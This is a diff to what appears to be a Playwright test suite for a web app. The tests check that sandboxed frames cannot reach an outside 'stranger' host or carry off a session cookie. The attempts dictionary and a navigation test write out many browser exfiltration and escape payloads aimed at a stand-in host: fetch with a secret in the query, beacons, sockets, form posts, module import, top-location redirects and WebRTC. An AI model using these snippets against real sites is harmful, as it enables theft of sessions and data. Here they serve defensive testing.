@@ -18,7 +18,7 @@ ATTEMPTS = {
     "fetch a stranger": "fetch(`${X}/fetch?${S}`).then(() => 'sent')",
     "fetch a stranger blindly": "fetch(`${X}/blind`, { mode: 'no-cors' }).then(() => 'sent')",
     "fetch ours": "fetch(`${O}/api/session`, { credentials: 'include' }).then((r) => r.text())",
-    "xhr": "new Promise((y) => { const r = new XMLHttpRequest(); r.open('GET', `${O}/api/session`); r.onload = () => y(r.responseText); r.onerror = () => y('no'); r.send(); })",
+    "xhr": "xhr(`${O}/api/session`)",
     "beacon": "navigator.sendBeacon(`${X}/beacon`, 'x') && later('no')",
     "image": "asset('img', 'src', `${X}/image.png`)",
     "our image": "asset('img', 'src', `${O}/api/files/f`)",
@@ -34,11 +34,11 @@ ATTEMPTS = {
     "video": "asset('video', 'src', `${X}/video`)",
     "font": "new FontFace('f', `url(${X}/font.woff2)`).load().then(() => 'loaded')",
     "css url": "(document.body.style.background = `url(${X}/css.png)`, later('no'))",
-    "socket": "new Promise((y) => { const s = new WebSocket(X.replace('http', 'ws')); s.onopen = () => y('open'); s.onerror = () => y('no'); })",
-    "events": "new Promise((y) => { const s = new EventSource(`${X}/events`); s.onopen = () => y('open'); s.onerror = () => y('no'); })",
-    "worker": "new Promise((y) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${X}/worker')`]))); w.onerror = () => y('no'); setTimeout(() => y('no'), 300); })",
+    "socket": "opens(new WebSocket(X.replace('http', 'ws')))",
+    "events": "opens(new EventSource(`${X}/events`))",
+    "worker": "works(`fetch('${X}/worker')`)",
     "import": "import(`${X}/module.js`).then(() => 'loaded')",
-    "form": "(() => { const f = document.createElement('form'); f.action = `${X}/form`; document.body.append(f); f.submit(); return later('no'); })()",
+    "form": "sends(`${X}/form`)",
     "window": "String(window.open(`${X}/open`) ?? 'no')",
     "top": "(top.location = `${X}/top`, later('no'))",
     "parent's address": "(parent.location.href = `${X}/parent`, later('no'))",
@@ -53,9 +53,9 @@ ATTEMPTS = {
     "caches": "caches.keys().then(() => 'read')",
     "workers": "navigator.serviceWorker.getRegistrations().then(() => 'read')",
     "dialog": "(alert('x'), 'no')",
-    "download": "(() => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; document.body.append(a); a.click(); return later('no'); })()",
-    "peer": "(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${U}` }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); return later('offered'); })()",
-    "peer of a frame": "(() => { const f = document.createElement('iframe'); document.body.append(f); const R = f.contentWindow.RTCPeerConnection; const p = new R({ iceServers: [{ urls: `stun:127.0.0.1:${U}` }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); return later('offered'); })()",
+    "download": "downloads('data:text/plain,x')",
+    "peer": "offers(RTCPeerConnection)",
+    "peer of a frame": "offers(inner().RTCPeerConnection)",
     "transport": "new WebTransport(X.replace('http:', 'https:')).ready.then(() => 'open')",
     "camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'sees')",
     "place": "new Promise((y) => navigator.geolocation.getCurrentPosition(() => y('knows'), () => y('no')))",
@@ -75,6 +75,41 @@ const asset = (name, attribute, url, more = {}) => new Promise((done) => {
     document.body.append(node);
     setTimeout(() => done("no"), 300);
 });
+const xhr = (url) => new Promise((done) => {
+    const request = new XMLHttpRequest();
+    request.open("GET", url);
+    request.onload = () => done(request.responseText);
+    request.onerror = () => done("no");
+    request.send();
+});
+const opens = (socket) => new Promise((done) => {
+    socket.onopen = () => done("open");
+    socket.onerror = () => done("no");
+});
+const works = (source) => new Promise((done) => {
+    new Worker(URL.createObjectURL(new Blob([source]))).onerror = () => done("no");
+    setTimeout(() => done("no"), 300);
+});
+const sends = (action) => {
+    const form = document.body.appendChild(document.createElement("form"));
+    form.action = action;
+    form.submit();
+    return later("no");
+};
+const downloads = (href) => {
+    const link = document.body.appendChild(document.createElement("a"));
+    link.href = href;
+    link.download = "x";
+    link.click();
+    return later("no");
+};
+const inner = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
+const offers = (Peer) => {
+    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${U}` }] });
+    peer.createDataChannel("x");
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+    return later("offered");
+};
 (async () => {
     let got;
     try { got = await Promise.race([(async () => (%(attempt)s))(), later("no").then(() => later("no"))]); }
@@ -123,8 +158,13 @@ def test_the_frame_cannot_be_led_away(page: Page, site: Site, watch: Watch, wher
     watch.allow("")
     page.context.add_cookies([{"name": "freehold_session", "value": SECRET, "url": site.url}])
     target = f"{site.stranger}/carry?words" if where == "stranger" else f"{site.url}/api/session"
-    for move in (f"location = '{target}'", f"location.replace('{target}')", f"document.write('<a href={target}>x</a>');"
-                 "document.querySelector('a').click()", f"document.write('<meta http-equiv=refresh content=0;url={target}>')"):  # fmt: skip
+    moves = (
+        f"location = '{target}'",
+        f"location.replace('{target}')",
+        f"document.write('<a href={target}>x</a>'); document.querySelector('a').click()",
+        f"document.write('<meta http-equiv=refresh content=0;url={target}>')",
+    )
+    for move in moves:
         page.evaluate(OPEN, [f"<script>{move}</script>", "html"])
         page.wait_for_timeout(400)
     assert [each for each in site.seen if "stranger" in each or "with cookie" in each] == []
